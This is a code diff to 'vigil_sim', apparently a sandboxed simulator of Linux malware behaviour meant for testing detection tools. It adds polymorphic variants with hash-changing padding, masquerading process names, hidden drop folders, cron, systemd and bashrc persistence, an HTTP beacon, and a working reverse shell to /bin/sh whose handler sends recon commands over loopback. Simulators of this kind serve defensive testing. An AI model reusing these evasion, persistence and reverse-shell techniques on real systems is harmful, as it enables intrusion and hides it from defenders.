@@ -224,9 +224,22 @@ struct plan {
 	int pool_port;
 	char pool_payload[512];
 	char cnc_name[128];
+	/* --variant: a polymorphic family member (docs/simulator.md, "Variants") */
+	int variant;               /* 1 when --variant gave the seed */
+	const char *family;        /* "Dofoil", "CronStager", "RevShell"; NULL without --variant */
+	unsigned persist_kinds;    /* PK_* bits the persist stage writes */
+	unsigned pad_bytes, pad_text; /* bytes appended to every dropped copy; text-like (1) or random (0) */
+	char agent_role[8];        /* "miner", "beacon" or "shell": what the started copy does */
+	char agent_args[3][48];    /* extra command-line arguments of the started copy ("" = none) */
+	char beacon_request[320];  /* beacon: the HTTP request line it sends */
+	char install_dir[96], install_name[48]; /* --install-copy: where the loader's own copy goes */
 };
 
+enum { PK_CRON = 1, PK_SYSTEMD = 2, PK_SHELL_RC = 4 };
+
 /* ---- randomness from the seed ---- */
+
+static void make_variant(struct plan *p);
 
 static uint64_t rng_state;
 
@@ -409,6 +422,166 @@ static void make_plan(struct plan *p)
 		snprintf(p->cnc_name, sizeof(p->cnc_name), "%s.home.arpa", label);
 	else
 		snprintf(p->cnc_name, sizeof(p->cnc_name), "%s.bit", label);
+	p->persist_kinds = PK_CRON | PK_SYSTEMD | PK_SHELL_RC;
+	snprintf(p->agent_role, sizeof(p->agent_role), "miner");
+	if (p->variant && !p->benign)
+		make_variant(p);
+}
+
+/* Text-like padding: words a program's data section might hold (lower entropy than random bytes). */
+static const char *const pad_words[] = { "config", "update", "server", "client", "session", "token",
+					 "buffer", "thread", "socket", "payload", "version", "module" };
+
+/*
+ * --variant: the seed also decides the family, which stages run, every name,
+ * folder, argument, C&C name and port, the persistence kinds and the padding
+ * appended to each dropped copy, so that variants differ as polymorphic
+ * malware does (distinct hashes), while the same seed gives the same run.
+ */
+static void make_variant(struct plan *p)
+{
+	static const char *const families[] = { "Dofoil", "CronStager", "RevShell" };
+	static const char *const names[] = { "dbus-daemon", "sshd", "systemd-logind", "kdevtmpfsi", "crond",
+					     "rsyslogd", "kthreaddi", "sysupdate", "networkservice", "php-fpm",
+					     "watchdogd", "auditd", "polkitd", "atd", "irqbalance" };
+	static const char *const dirs[] = { "%s/.cache/.%s", "%s/.local/share/.%s", "%s/.config/.%s", "%s/.%s",
+					    "/tmp/.%2$s", "/var/tmp/.%2$s", "/dev/shm/.%2$s" };
+	static const char *const tlds[] = { "bit", "top", "xyz", "ru", "pw", "cc", "tk", "su" };
+	static const char *const pool_ports[] = { "3333", "4444", "5555", "7777", "14444", "45700", "3334", "9999",
+						  "10128", "13333", "5556", "8888" };
+	static const int beacon_ports[] = { 80, 443, 8080, 8443, 8000, 8081, 2083, 1604 };
+	static const int shell_ports[] = { 4444, 1337, 9001, 31337, 443, 5555, 6666, 1234, 8443 };
+	static const char *const uris[] = { "/gate.php", "/api/v1/task", "/update", "/images/logo.gif",
+					    "/wp-content/upd.php", "/cdn/stats", "/c2/poll", "/admin/get.php" };
+	static const char *const flags[] = { "-d", "--daemon", "-q", "--no-log", "-b", "--silent", "-c", "-k",
+					     "--config", "-p" };
+	char hex[9], label[16], uri_id[13];
+
+	rng_state = p->seed ^ 0x5eedfacecafef00dull; /* its own stream: the base plan stays as it was */
+	p->family = families[p->seed % 3];
+	/* a folder and a name for the dropped copy */
+	rng_chars(hex, 4 + rng_below(5), "0123456789abcdef");
+	const char *dfmt = PICK(dirs);
+	snprintf(p->drop_dir, sizeof(p->drop_dir), dfmt, p->home, hex);
+	char name[32];
+	if (rng_below(4) == 0)
+		rng_chars(name, 5 + rng_below(6), "abcdefghijklmnopqrstuvwxyz0123456789");
+	else
+		snprintf(name, sizeof(name), "%s", PICK(names));
+	snprintf(p->drop_path, sizeof(p->drop_path), "%s/%s", p->drop_dir, name);
+	/* the loader's own installed copy (--install-copy) */
+	rng_chars(hex, 6, "0123456789abcdef");
+	static const char *const inst_dirs[] = { "/tmp/.%s", "/var/tmp/.%s", "/var/lib/.%s", "/root/.cache/.%s" };
+	snprintf(p->install_dir, sizeof(p->install_dir), PICK(inst_dirs), hex);
+	if (rng_below(3) == 0)
+		rng_chars(p->install_name, 6 + rng_below(5), "abcdefghijklmnopqrstuvwxyz");
+	else
+		snprintf(p->install_name, sizeof(p->install_name), "%s", PICK(names));
+	/* padding: every copy's hash differs */
+	p->pad_bytes = 256 + rng_below(48 * 1024);
+	p->pad_text = rng_below(2);
+	/* persistence: one to three kinds pointing at the dropped copy */
+	do
+		p->persist_kinds = rng_below(8);
+	while (!p->persist_kinds);
+	/* the C&C name */
+	rng_chars(label, 5 + rng_below(9), "abcdefghijklmnopqrstuvwxyz0123456789");
+	snprintf(p->cnc_name, sizeof(p->cnc_name), "%s.%s", label, PICK(tlds));
+	/* the started copy's arguments */
+	for (int i = 0; i < 3; i++)
+		p->agent_args[i][0] = '\0';
+	unsigned nargs = rng_below(4);
+	for (unsigned i = 0; i < nargs && i < 3; i++) {
+		const char *fl = PICK(flags);
+		if (strcmp(fl, "-c") == 0 || strcmp(fl, "--config") == 0) {
+			rng_chars(hex, 6, "0123456789abcdef");
+			snprintf(p->agent_args[i], sizeof(p->agent_args[i]), "%s=/tmp/.%s.conf", fl, hex);
+		} else if (strcmp(fl, "-p") == 0) {
+			snprintf(p->agent_args[i], sizeof(p->agent_args[i]), "-p%u", 1024 + rng_below(60000));
+		} else {
+			snprintf(p->agent_args[i], sizeof(p->agent_args[i]), "%s", fl);
+		}
+	}
+	/* stages and what the started copy does, by family */
+	if (strcmp(p->family, "Dofoil") == 0) {
+		p->stages = ST_DROP | ST_MINER;
+		if (rng_below(5))
+			p->stages |= ST_HOLLOW;
+		if (rng_below(10) < 7)
+			p->stages |= ST_PERSIST;
+		if (rng_below(10) < 6)
+			p->stages |= ST_CNC;
+		p->pool_port = atoi(PICK(pool_ports));
+		snprintf(p->agent_role, sizeof(p->agent_role), "miner");
+		if (rng_below(3) == 0) { /* sometimes the miner runs from the drop folder under its own name */
+			rng_chars(hex, 5, "0123456789abcdef");
+			snprintf(p->miner_path, sizeof(p->miner_path), "%s/.%s", p->drop_dir, hex);
+			snprintf(p->miner_argv0, sizeof(p->miner_argv0), "%s", name);
+			snprintf(p->miner_comm, sizeof(p->miner_comm), "%.15s", name);
+		} else {
+			rng_chars(hex, 8, "0123456789abcdef");
+			snprintf(p->miner_path, sizeof(p->miner_path), "/dev/shm/.%s", hex);
+		}
+	} else {
+		int stager = strcmp(p->family, "CronStager") == 0;
+		p->stages = ST_DROP | ST_MINER | (stager ? ST_PERSIST | ST_CNC : 0);
+		if (!stager && rng_below(2))
+			p->stages |= ST_PERSIST;
+		if (!stager && rng_below(3) == 0)
+			p->stages |= ST_CNC;
+		if (stager)
+			p->persist_kinds |= PK_CRON;
+		snprintf(p->agent_role, sizeof(p->agent_role), "%s", stager ? "beacon" : "shell");
+		p->pool_port = stager ? PICK(beacon_ports) : PICK(shell_ports);
+		/* the started copy is the dropped file itself, under its own name */
+		snprintf(p->miner_path, sizeof(p->miner_path), "%s", p->drop_path);
+		snprintf(p->miner_argv0, sizeof(p->miner_argv0), "%s", name);
+		snprintf(p->miner_comm, sizeof(p->miner_comm), "%.15s", name);
+		rng_chars(uri_id, 12, "0123456789abcdef");
+		snprintf(p->beacon_request, sizeof(p->beacon_request),
+			 "GET %s?id=%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n\r\n", PICK(uris), uri_id,
+			 p->cnc_name);
+		if (!stager)
+			snprintf(p->beacon_request, sizeof(p->beacon_request), "%s", "");
+	}
+	p->threads = 1;
+	p->burn_ms = 50 + (int)rng_below(100);
+}
+
+/* Appends the variant's padding to path (a fresh copy): n bytes from the seed, random or text-like. */
+static int pad_file(const struct plan *p, const char *path, unsigned salt)
+{
+	if (!p->pad_bytes)
+		return 0;
+	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+	if (fd < 0)
+		return -errno;
+	uint64_t saved = rng_state;
+	rng_state = p->seed * 31 + salt;
+	char buf[4096];
+	unsigned left = p->pad_bytes + salt * 97, n = 0;
+	int rc = 0;
+	while (left && !rc) {
+		n = left < sizeof(buf) ? left : (unsigned)sizeof(buf);
+		for (unsigned i = 0; i < n;) {
+			if (p->pad_text) {
+				const char *w = PICK(pad_words);
+				for (; *w && i < n; w++)
+					buf[i++] = *w;
+				if (i < n)
+					buf[i++] = rng_below(4) ? '_' : '\0';
+			} else {
+				buf[i++] = (char)rng_next();
+			}
+		}
+		if (write(fd, buf, n) != (ssize_t)n)
+			rc = -EIO;
+		left -= n;
+	}
+	rng_state = saved;
+	if (close(fd) < 0 && !rc)
+		rc = -errno;
+	return rc;
 }
 
 static void print_plan(const struct plan *p)
@@ -482,6 +655,42 @@ static void print_plan(const struct plan *p)
 	vg_buf_json_kv(&l.b, &f, "answer", "127.0.0.2");
 	vg_buf_puts(&l.b, "}");
 
+	if (p->family) {
+		vg_buf_json_key(&l.b, &l.first, "variant");
+		f = 1;
+		vg_buf_puts(&l.b, "{");
+		vg_buf_json_kv(&l.b, &f, "family", p->family);
+		vg_buf_json_ku(&l.b, &f, "pad_bytes", p->pad_bytes);
+		vg_buf_json_kv(&l.b, &f, "pad", p->pad_text ? "text" : "random");
+		vg_buf_json_key(&l.b, &f, "persist");
+		vg_buf_puts(&l.b, "[");
+		int g = 1;
+		static const char *const pk[] = { "cron", "systemd", "shell_rc" };
+		for (int i = 0; i < 3; i++)
+			if (p->persist_kinds & (1u << i)) {
+				vg_buf_puts(&l.b, g ? "" : ",");
+				g = 0;
+				vg_buf_json_str(&l.b, pk[i]);
+			}
+		vg_buf_puts(&l.b, "]");
+		vg_buf_json_kv(&l.b, &f, "role", p->agent_role);
+		vg_buf_json_key(&l.b, &f, "args");
+		vg_buf_puts(&l.b, "[");
+		g = 1;
+		for (int i = 0; i < 3; i++)
+			if (p->agent_args[i][0]) {
+				vg_buf_puts(&l.b, g ? "" : ",");
+				g = 0;
+				vg_buf_json_str(&l.b, p->agent_args[i]);
+			}
+		vg_buf_puts(&l.b, "]");
+		vg_buf_json_kv(&l.b, &f, "cnc", p->cnc_name);
+		vg_buf_json_ki(&l.b, &f, "port", p->pool_port);
+		char inst[160];
+		snprintf(inst, sizeof(inst), "%s/%s", p->install_dir, p->install_name);
+		vg_buf_json_kv(&l.b, &f, "install_copy", inst);
+		vg_buf_puts(&l.b, "}");
+	}
 	vg_buf_json_key(&l.b, &l.first, "pause_ms");
 	vg_buf_puts(&l.b, "[");
 	for (int i = 0; i < NSTAGES; i++)
@@ -921,6 +1130,12 @@ static void stage_drop(const struct plan *p)
 		emit_error("drop", "copying /proc/self/exe to %s: %s", p->drop_path, strerror((int)-n));
 		return;
 	}
+	int prc = pad_file(p, p->drop_path, 1);
+	if (prc < 0) {
+		emit_error("drop", "padding %s: %s", p->drop_path, strerror(-prc));
+		return;
+	}
+	n += p->pad_bytes ? p->pad_bytes + 97 : 0;
 	if (chmod(p->drop_path, 0755) < 0) {
 		emit_error("drop", "chmod %s: %s", p->drop_path, strerror(errno));
 		return;
@@ -954,28 +1169,34 @@ static void stage_persist(const struct plan *p)
 	/* cron: the user's crontab in the spool, as crontab(1) leaves it. */
 	snprintf(text, sizeof(text),
 		 "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n# (installed by vigil_sim)\n%s\n", p->cron_line);
-	rc = write_file(p->cron_path, text, O_TRUNC, 0600);
-	if (rc < 0)
+	rc = p->persist_kinds & PK_CRON ? write_file(p->cron_path, text, O_TRUNC, 0600) : 1;
+	if (rc == 1)
+		;
+	else if (rc < 0)
 		emit_error("persist", "writing %s: %s", p->cron_path, strerror(-rc));
 	else
 		emit_persist("cron", p->cron_path, target);
 
 	/* systemd --user: the unit, enabled by the link in default.target.wants. */
 	snprintf(dir, sizeof(dir), "%s/.config/systemd/user/default.target.wants", p->home);
-	rc = mkdirs(dir, 0755);
+	rc = p->persist_kinds & PK_SYSTEMD ? mkdirs(dir, 0755) : 1;
 	if (rc == 0)
 		rc = write_file(p->unit_path, p->unit_text, O_TRUNC, 0644);
 	if (rc == 0 && symlink(p->unit_path, p->unit_wants) < 0 && errno != EEXIST)
 		rc = -errno;
-	if (rc < 0)
+	if (rc == 1)
+		;
+	else if (rc < 0)
 		emit_error("persist", "writing %s: %s", p->unit_path, strerror(-rc));
 	else
 		emit_persist("systemd", p->unit_path, target);
 
 	/* shell rc: one line appended to the existing ~/.bashrc. */
 	snprintf(text, sizeof(text), "%s\n", p->rc_line);
-	rc = write_file(p->rc_path, text, O_APPEND, 0644);
-	if (rc < 0)
+	rc = p->persist_kinds & PK_SHELL_RC ? write_file(p->rc_path, text, O_APPEND, 0644) : 1;
+	if (rc == 1)
+		;
+	else if (rc < 0)
 		emit_error("persist", "appending to %s: %s", p->rc_path, strerror(-rc));
 	else
 		emit_persist("shell_rc", p->rc_path, target);
@@ -1000,6 +1221,8 @@ static int stage_miner(const struct plan *p, int linger)
 
 	if (strcmp(src, p->miner_path) != 0) {
 		long long n = copy_file(src, p->miner_path);
+		if (n >= 0 && pad_file(p, p->miner_path, 2) < 0)
+			n = -EIO;
 		if (n < 0 || chmod(p->miner_path, 0755) < 0) {
 			emit_error("miner", "copying %s to %s: %s", src, p->miner_path, strerror(n < 0 ? (int)-n : errno));
 			return -1;
@@ -1009,7 +1232,7 @@ static int stage_miner(const struct plan *p, int linger)
 		emit_error("miner", "pipe: %s", strerror(errno));
 		return -1;
 	}
-	snprintf(env[0], sizeof(env[0]), "VIGIL_SIM_ROLE=miner");
+	snprintf(env[0], sizeof(env[0]), "VIGIL_SIM_ROLE=%s", p->agent_role);
 	snprintf(env[1], sizeof(env[1]), "VIGIL_SIM_TOKEN=%s", getenv("VIGIL_SIM_TOKEN"));
 	snprintf(env[2], sizeof(env[2]), "VIGIL_SIM_PORT=%d", p->pool_port);
 	snprintf(env[3], sizeof(env[3]), "VIGIL_SIM_BURN_MS=%d", p->burn_ms);
@@ -1017,7 +1240,8 @@ static int stage_miner(const struct plan *p, int linger)
 	snprintf(env[5], sizeof(env[5]), "VIGIL_SIM_COMM=%s", p->miner_comm);
 	snprintf(env[6], sizeof(env[6]), "VIGIL_SIM_LINGER=%d", linger);
 	snprintf(env[7], sizeof(env[7]), "VIGIL_SIM_MAX_SECONDS=%d", p->max_seconds);
-	snprintf(env[8], sizeof(env[8]), "VIGIL_SIM_PAYLOAD=%s", p->pool_payload);
+	snprintf(env[8], sizeof(env[8]), "VIGIL_SIM_PAYLOAD=%s",
+		 strcmp(p->agent_role, "beacon") == 0 ? p->beacon_request : p->pool_payload);
 	snprintf(env[9], sizeof(env[9]), "VIGIL_SIM_HOST_MNTNS=%s", getenv("VIGIL_SIM_HOST_MNTNS"));
 	snprintf(env[10], sizeof(env[10]), "VIGIL_SIM_HOST_NETNS=%s", getenv("VIGIL_SIM_HOST_NETNS"));
 	for (int i = 0; i < 11; i++)
@@ -1037,7 +1261,12 @@ static int stage_miner(const struct plan *p, int linger)
 			fcntl(DONE_FD, F_SETFD, 0);
 		else if (dup2(pfd[1], DONE_FD) < 0)
 			_exit(126);
-		char *argv[] = { (char *)p->miner_argv0, NULL };
+		char *argv[5] = { (char *)p->miner_argv0, NULL };
+		int na = 1;
+		for (int i = 0; i < 3; i++)
+			if (p->agent_args[i][0])
+				argv[na++] = (char *)p->agent_args[i];
+		argv[na] = NULL;
 		execve(p->miner_path, argv, envp);
 		_exit(127);
 	}
@@ -1179,11 +1408,106 @@ static int miner_main(void)
 	return rc;
 }
 
+/* --variant CronStager: the started copy calls its C&C over HTTP once and exits. */
+static int beacon_main(void)
+{
+	require_sandbox();
+	int port = env_int("VIGIL_SIM_PORT", 1, 65535, 80);
+	const char *req = getenv("VIGIL_SIM_PAYLOAD");
+	struct line l;
+	char reply[256] = "";
+	int rc = 0, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
+
+	alarm(60);
+	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
+		emit_error("beacon", "connect 127.0.0.1:%d: %s", port, strerror(errno));
+		rc = 1;
+	} else {
+		ssize_t n = write(fd, req ? req : "", req ? strlen(req) : 0);
+		ssize_t r = read(fd, reply, sizeof(reply) - 1);
+		reply[r > 0 ? r : 0] = '\0';
+		char *nl = strpbrk(reply, "\r\n");
+		if (nl)
+			*nl = '\0';
+		line_begin(&l, "beacon", "sent");
+		vg_buf_json_ki(&l.b, &l.first, "port", port);
+		vg_buf_json_ki(&l.b, &l.first, "bytes", n);
+		vg_buf_json_kv(&l.b, &l.first, "reply", reply);
+		line_end(&l);
+	}
+	if (fd >= 0)
+		close(fd);
+	close(DONE_FD);
+	return rc;
+}
+
+/* --variant RevShell: the started copy connects back and hands its socket to /bin/sh. */
+static int shell_main(void)
+{
+	require_sandbox();
+	int port = env_int("VIGIL_SIM_PORT", 1, 65535, 4444);
+	struct line l;
+	int fd = socket(AF_INET, SOCK_STREAM, 0);
+	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
+
+	alarm(60);
+	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
+		emit_error("shell", "connect 127.0.0.1:%d: %s", port, strerror(errno));
+		close(DONE_FD);
+		return 1;
+	}
+	line_begin(&l, "shell", "connected");
+	vg_buf_json_ki(&l.b, &l.first, "port", port);
+	line_end(&l);
+	/* the shell keeps DONE_FD open until it exits: the simulator waits for it */
+	if (dup2(fd, 0) < 0 || dup2(fd, 1) < 0 || dup2(fd, 2) < 0)
+		_exit(126);
+	close(fd);
+	char *argv[] = { "sh", "-i", NULL };
+	char *envp[] = { "PATH=/usr/bin:/bin", "PS1=$ ", NULL };
+	execve("/bin/sh", argv, envp);
+	_exit(127);
+}
+
 /* ---- the fake pool and the stub resolver (one child process) ---- */
+
+static const char *serve_role = "miner"; /* the started copy's role: what the server plays (pool, C&C, shell handler) */
+
+/* The reverse shell's handler: sends a few reconnaissance commands, reads what comes back. */
+static void serve_shell_client(int c, int port)
+{
+	static const char cmds[] = "id\nuname -a\nhostname\nls /tmp\nexit\n";
+	char buf[4096];
+	size_t got = 0;
+	struct pollfd pf = { c, POLLIN, 0 };
+
+	if (write(c, cmds, sizeof(cmds) - 1) < 0)
+		fprintf(stderr, "vigil_sim shell handler: write: %s\n", strerror(errno));
+	while (got < sizeof(buf) - 1 && poll(&pf, 1, 5000) > 0) {
+		ssize_t n = read(c, buf + got, sizeof(buf) - 1 - got);
+		if (n <= 0)
+			break;
+		got += (size_t)n;
+	}
+	buf[got] = '\0';
+	struct line l;
+	line_begin(&l, "handler", "output");
+	vg_buf_json_ki(&l.b, &l.first, "port", port);
+	vg_buf_json_ki(&l.b, &l.first, "bytes", (long long)got);
+	line_end(&l);
+	close(c);
+}
 
 static void serve_pool_client(int c, int port)
 {
 	char buf[2048];
+	if (strcmp(serve_role, "shell") == 0) {
+		serve_shell_client(c, port);
+		return;
+	}
 	size_t got = 0;
 	struct sockaddr_in peer = { 0 };
 	socklen_t pl = sizeof(peer);
@@ -1209,7 +1533,9 @@ static void serve_pool_client(int c, int port)
 	vg_buf_json_kv(&l.b, &l.first, "line", buf);
 	line_end(&l);
 	static const char ok[] = "{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"status\":\"OK\"}}\n";
-	if (write(c, ok, sizeof(ok) - 1) < 0)
+	static const char task[] = "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nsleep 300\n";
+	int beacon = strcmp(serve_role, "beacon") == 0;
+	if (write(c, beacon ? task : ok, beacon ? sizeof(task) - 1 : sizeof(ok) - 1) < 0)
 		fprintf(stderr, "vigil_sim pool: reply: %s\n", strerror(errno));
 	close(c);
 }
@@ -1297,6 +1623,7 @@ static pid_t start_servers(const struct plan *p)
 	if (c == 0) {
 		prctl(PR_SET_PDEATHSIG, SIGKILL);
 		prctl(PR_SET_NAME, "vigil_sim-srv");
+		serve_role = p->agent_role;
 		serve(lfd, ufd, p->pool_port);
 		_exit(0);
 	}
@@ -1337,6 +1664,30 @@ static void stage_cnc(const struct plan *p)
 
 /* ---- main ---- */
 
+/*
+ * --install-copy: writes this program, padded as the variant says, to the
+ * variant's own place on the host (the loader as it would arrive), prints the
+ * path and exits. Running it still sets up the private namespace first.
+ */
+static int install_copy(const struct plan *p, const char *root)
+{
+	char dir[PATH_MAX], path[PATH_MAX + 64];
+	snprintf(dir, sizeof(dir), "%.3900s%s", strcmp(root, "/") == 0 ? "" : root, p->install_dir);
+	int rc = mkdirs(dir, 0700);
+	snprintf(path, sizeof(path), "%s/%s", dir, p->install_name);
+	long long n = rc < 0 ? rc : copy_file("/proc/self/exe", path);
+	if (n >= 0)
+		n = pad_file(p, path, 3);
+	if (n >= 0 && chmod(path, 0755) < 0)
+		n = -errno;
+	if (n < 0) {
+		fprintf(stderr, "vigil_sim: --install-copy %s: %s\n", path, strerror((int)-n));
+		return 1;
+	}
+	printf("%s\n", path);
+	return 0;
+}
+
 static void usage(FILE *f)
 {
 	fputs("usage: vigil_sim [--seed N] [--stages LIST] [--benign] [--plan] [--keep-alive]\n"
@@ -1349,7 +1700,15 @@ static void usage(FILE *f)
 	      "  --plan           print the plan as one JSON line and exit (needs no root)\n"
 	      "  --keep-alive     after the stages, hold the namespace until stdin closes or a signal\n"
 	      "  --burn-ms N      miner CPU time per thread, 1..2000 (default 200..399 from the seed)\n"
-	      "  --max-seconds N  hard cap on total runtime, 1..3600 (default 300)\n",
+	      "  --max-seconds N  hard cap on total runtime, 1..3600 (default 300)\n"
+	      "  --variant N      seed N, and the seed also picks the family (Dofoil, CronStager,\n"
+	      "                   RevShell), the stages, names, folders, arguments, C&C name and port,\n"
+	      "                   persistence kinds and the padding of every dropped copy\n"
+	      "  --install-copy   (with --variant) write the padded loader copy for that variant,\n"
+	      "                   print its path and exit\n"
+	      "  --install-root D (with --variant) the same, under folder D instead of /\n"
+	      "  With VIGIL_SIM_VARIANT=N in the environment: --variant N, and the command line\n"
+	      "  is not read (a variant runs with its own arguments, see the plan's variant.args).\n",
 	      f);
 }
 
@@ -1382,6 +1741,14 @@ int main(int argc, char **argv)
 	const char *role = getenv("VIGIL_SIM_ROLE");
 	if (role && strcmp(role, "miner") == 0)
 		return miner_main();
+	if (role && strcmp(role, "beacon") == 0)
+		return beacon_main();
+	if (role && strcmp(role, "shell") == 0)
+		return shell_main();
+	const char *install_base = NULL;
+	/* VIGIL_SIM_VARIANT=N: the same as --variant N, and the arguments are decoration (the variant's own) */
+	const char *env_variant = getenv("VIGIL_SIM_VARIANT");
+	int decorated = env_variant && *env_variant;
 
 	memset(&p, 0, sizeof(p));
 	p.stages = ST_ALL;
@@ -1389,7 +1756,13 @@ int main(int argc, char **argv)
 	if (getrandom(&p.seed, sizeof(p.seed), 0) != (ssize_t)sizeof(p.seed))
 		p.seed = (uint64_t)time(NULL) ^ (uint64_t)getpid();
 	p.seed &= 0xffffffffull; /* short enough to type back */
-	for (int i = 1; i < argc; i++) {
+	if (decorated) {
+		if (parse_num("VIGIL_SIM_VARIANT", env_variant, 0, UINT64_MAX, &n) < 0)
+			return 2;
+		p.seed = n;
+		p.variant = 1;
+	}
+	for (int i = 1; i < argc && !decorated; i++) {
 		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
 		if (strcmp(a, "--seed") == 0) {
 			if (parse_num(a, v, 0, UINT64_MAX, &n) < 0)
@@ -1412,6 +1785,22 @@ int main(int argc, char **argv)
 				return 2;
 			p.max_seconds = (int)n;
 			i++;
+		} else if (strcmp(a, "--variant") == 0) {
+			if (parse_num(a, v, 0, UINT64_MAX, &n) < 0)
+				return 2;
+			p.seed = n;
+			p.variant = 1;
+			i++;
+		} else if (strcmp(a, "--install-copy") == 0) {
+			if (!install_base)
+				install_base = "/";
+		} else if (strcmp(a, "--install-root") == 0) {
+			if (!v || v[0] != '/') {
+				fprintf(stderr, "vigil_sim: --install-root needs an absolute folder\n");
+				return 2;
+			}
+			install_base = v;
+			i++;
 		} else if (strcmp(a, "--benign") == 0) {
 			p.benign = 1;
 		} else if (strcmp(a, "--plan") == 0) {
@@ -1428,6 +1817,13 @@ int main(int argc, char **argv)
 		}
 	}
 	make_plan(&p);
+	if (install_base) {
+		if (!p.variant) {
+			fprintf(stderr, "vigil_sim: --install-copy needs --variant\n");
+			return 2;
+		}
+		return install_copy(&p, install_base);
+	}
 	if (only_plan) {
 		print_plan(&p);
 		return 0;
